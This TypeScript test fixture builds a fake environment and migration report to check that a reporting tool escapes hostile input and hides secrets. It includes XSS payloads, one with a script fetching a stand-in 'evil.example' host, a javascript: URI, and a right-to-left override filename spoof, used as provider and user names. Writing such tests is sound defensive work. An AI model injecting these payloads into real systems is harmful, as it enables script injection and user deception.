import type { AuditEntry } from '../../shared/domain/audit.ts';
import { auditRoot, chain } from '../../shared/domain/audit.ts';
import type { Evidence } from '../../shared/domain/evidence.ts';
import type { Reported, ReportedPicture } from '../../shared/domain/reported.ts';
import type { Run } from '../../shared/domain/run.ts';
import type { Snapshot } from '../../shared/domain/snapshot.ts';
import { verifyPlan } from '../../shared/steps/plan-environment.ts';
import { id } from './ids.ts';
import { appliedAll } from './model.ts';
import { answers, planned } from './planned.ts';
import { legacyProvider, person, plainEnvironment } from './snapshot.ts';
import { made } from './staged.ts';
import { withEffective } from './with-effective.ts';
import { ada, bruno, contosoDev } from './world.ts';

/** Names that would become elements, styles, addresses or another reading direction if anything let them. */
export const hostileNames = [
  '<img src=x onerror=alert(1)>',
  '</style><script>fetch("https://evil.example")</script>',
  '"><svg onload=alert(1)>',
  'مركز الاتصال',
  'evil \u202egnp.exe',
  "O'Brien & Søn <b>",
  'javascript:alert(1)',
];

/** Hostile providers and people, one secret in an address, and an agent whose name runs from right to left. */
export function hostileEnvironment(): Snapshot {
  const plain = plainEnvironment(24);
  const providers = hostileNames.map((name, n) =>
    legacyProvider(n + 1, {
      msdyn_name: name,
      msdyn_label: name,
      msdyn_landingurl: `https://widget${n}.contoso.example/panel?token=s3cr3t-value&base=1`,
      msdyn_customparams: n === 0 ? '{"apiKey":"s3cr3t-parameter"}' : null,
    }),
  );
  const systemuser = plain.rows.systemuser.map((row, n) => ({
    ...person(n + 1, hostileNames[n] ?? `Person ${n + 1}`),
    id: row.id,
  }));
  return withEffective({ ...plain, rows: { ...plain.rows, msdyn_ciprovider: providers, systemuser } });
}

const at = (minute: number): string => `2026-11-28T21:${String(minute).padStart(2, '0')}:12.000Z`;
const runId = 'contoso-dev.8227557999999.4f7a1c9e2b30' as Run['id'];

/** A pilot that succeeded, with everything a report can show. */
export function aReport(pictures: readonly ReportedPicture[] = []): Reported {
  const start = hostileEnvironment();
  const first = planned(start);
  const decisions = answers(first, 'all').filter((one) => one.questionId.endsWith('several-providers'));
  const plan = made({ snapshot: start, decisions, pilot: { kind: 'count', count: 5 } });
  const after = withEffective(appliedAll(start, plan.changes));
  const evidence: Evidence[] = [
    {
      kind: 'workspace-not-seen',
      id: 'workspace',
      step: 'workspace',
      at: at(27),
      hash: 'a'.repeat(64),
      refusal: { kind: 'refusal', reason: 'workspace_timed_out', params: { seconds: '60' } },
    },
  ];
  const total = plan.changes.length;
  const run: Run = {
    status: 'unproven',
    id: runId,
    environment: contosoDev.key,
    kind: 'migrate',
    requester: ada,
    requestedAt: at(2),
    changedAt: at(28),
    asked: { pilot: { kind: 'count', count: 5 } },
    plan: { digest: plan.digest, chunks: 1, bytes: 900 },
    approval: { approvalId: 'a1', digest: plan.digest, by: bruno, at: at(19) },
    progress: { done: total - 1, present: 1, refused: 0, total },
    findings: verifyPlan(plan, after, evidence),
  };
  return {
    run,
    environment: { key: contosoDev.key, name: `${contosoDev.name} <script>` },
    plan,
    outcomes: plan.changes.map((_one, index) => (index === 0 ? 'p' : 'd')),
    audit: chained(plan.digest),
    evidence,
    pictures,
  };
}

function chained(digest: string): readonly AuditEntry[] {
  const notes = [
    { what: 'requested', by: ada, at: at(2) },
    { what: 'planned', at: at(3), digest },
    { what: 'answered', by: ada, at: at(5), detail: 'several-providers' },
    { what: 'planned', at: at(6), digest },
    { what: 'approved', by: { id: id(0xee, 7), name: hostileNames[0] ?? '' }, at: at(19), digest },
    { what: 'applied', at: at(26), digest },
    { what: 'unproven', at: at(28), digest },
  ];
  let previous = { sequence: 0, hash: auditRoot };
  return notes.map((note) => {
    const entry = chain({ environment: contosoDev.key, run: runId, ...note }, previous);
    previous = entry;
    return entry;
  });
}
